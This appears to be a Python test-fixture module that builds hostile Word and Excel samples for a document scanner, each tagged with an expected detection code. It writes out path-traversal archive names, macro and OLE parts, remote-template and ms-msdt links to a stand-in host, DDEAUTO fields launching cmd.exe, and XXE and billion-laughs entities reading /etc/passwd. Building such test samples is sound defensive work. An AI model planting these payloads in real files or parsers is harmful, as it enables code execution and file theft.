"""Word and Excel files with programs, objects and ways out."""

from collections.abc import Iterator

from tests.evidence.honest import (
    HEAD,
    WORD,
    W,
    docx,
    package,
    relation,
    relations,
    types,
    xlsx_parts,
)
from tests.evidence.hostile.row import Hostile


def strange_members() -> Iterator[Hostile]:
    """Names that lead out of the archive, and parts that no document has."""
    for name in ("../../etc/cron.d/x.xml", "/etc/x.xml", "word/../../x.xml", "C:/x.xml",
                 "word\\..\\x.xml", "word/x.html", "word/x.js", "word/x.exe", "word/x.php",
                 "word/x.bin", "word/x.mht", "word/x.rtf", "x.lnk", "word/x.xml.exe",
                 "word/x"):  # fmt: skip
        yield Hostile(f"member-{name}", "x.docx", docx(**{name: b"<x/>"}), ("bad_member",))


def macros() -> Iterator[Hostile]:
    """Documents that bring a program of their own."""
    for name in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml",
                 "word/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml",
                 "xl/dialogsheets/sheet1.xml", "xl/ctrlProps/ctrlProp1.xml"):  # fmt: skip
        yield Hostile(f"macro-{name}", "x.docx", docx(**{name: b"<x/>"}), ("macro",))
    for kind in ("application/vnd.ms-word.document.macroEnabled.main+xml",
                 "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                 "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"):  # fmt: skip
        listed = types(kind, "/word/document.xml")
        content = docx(**{"[Content_Types].xml": listed})
        yield Hostile(f"macro-type-{kind[12:34]}-{len(kind)}", "x.docx", content, ("macro",))
    more = '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>'
    listed = types(f"{WORD}.document.main+xml", "/word/document.xml", more)
    yield Hostile("macro-renamed", "x.docx", docx(**{"[Content_Types].xml": listed}), ("macro",))
    target = relations(relation("vbaProject", "a.xml"))
    content = docx(**{"word/_rels/document.xml.rels": target})
    yield Hostile("macro-relation", "x.docx", content, ("outside",))


def objects() -> Iterator[Hostile]:
    """Files of other programs inside a document."""
    for name in ("word/embeddings/oleObject1.bin", "word/embeddings/x.exe", "xl/embeddings/a.bin",
                 "word/embeddings/a.pptx", "word/oleObject.xml"):  # fmt: skip
        yield Hostile(f"object-{name}", "x.docx", docx(**{name: b"\xd0\xcf\x11\xe0"}), ("object",))
    for kind in ("oleObject", "control"):
        content = docx(**{"word/_rels/document.xml.rels": relations(relation(kind, "a.xml"))})
        yield Hostile(f"object-relation-{kind}", "x.docx", content, ("object",))
    yield Hostile("object-elsewhere", "x.docx", docx(**{"word/media/a.docx": docx()}), ("object",))


def ways_out() -> Iterator[Hostile]:
    """Documents that fetch something, or start a program, when they are opened."""
    for kind, target in (
        ("attachedTemplate", "https://x.example/t.dotm"),
        ("attachedTemplate", "\\\\x.example\\t.dotm"),
        ("attachedTemplate", "file://x.example/t.dotm"),
        ("image", "https://x.example/a.png"),
        ("externalLinkPath", "https://x.example/a.xlsx"),
        ("externalLinkPath", "file:///\\\\x.example\\a.xlsx"),
        ("subDocument", "https://x.example/a.docx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "file://x.example/share"),
        ("hyperlink", "ms-msdt:/id x"),
        ("hyperlink", "https://[x"),
        ("oleObject", "https://x.example/a.rtf"),
        ("frame", "https://x.example/a.html"),
    ):
        content = docx(
            **{"word/_rels/settings.xml.rels": relations(relation(kind, target, external=True))}
        )
        codes = ("outside", "object")
        yield Hostile(f"out-{kind}-{target[:22]}", "x.docx", content, codes)
    inside = docx(**{"word/_rels/document.xml.rels": relations(relation("aFChunk", "a.xml"))})
    yield Hostile("out-chunk", "x.docx", inside, ("outside",))
    for what, field in (
        ("whole", '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
        ("pieces", "<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>"),
        ("coded", "<w:instrText>&#68;&#68;E cmd</w:instrText>"),
        ("simple", '<w:fldSimple w:instr="DDE cmd"/>'),
    ):
        yield Hostile(f"dde-{what}", "x.docx", docx(f"<w:p>{field}</w:p>"), ("outside",))
    part = f'{HEAD}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    content = package({**xlsx_parts(), "xl/externalLinks/externalLink1.xml": part})
    yield Hostile("dde-sheet", "x.xlsx", content, ("outside",))


def doctypes() -> Iterator[Hostile]:
    """XML that reads files, calls out, or grows."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    heads = {
        "file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        "http": '<!DOCTYPE x SYSTEM "https://x.example/a.dtd">',
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "https://x.example/a"> %a;]>',
    }
    for what, head in heads.items():
        for part in ("word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"):
            content = docx(**{part: f'<?xml version="1.0"?>{head}<x xmlns="{W}">&a;</x>'})
            yield Hostile(f"xml-{what}-{part[:9]}-{len(part)}", "x.docx", content, ("doctype",))
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{heads["file"]}<x/>'.encode("utf-16")
    yield Hostile("xml-utf-16", "x.docx", docx(**{"word/document.xml": wide}), ("doctype",))
    for what, part in (("noise", b"\x00\x01\x02"), ("open", b"<x"), ("empty", b"")):
        content = docx(**{"word/document.xml": part})
        yield Hostile(f"xml-{what}", "x.docx", content, ("damaged_office",))
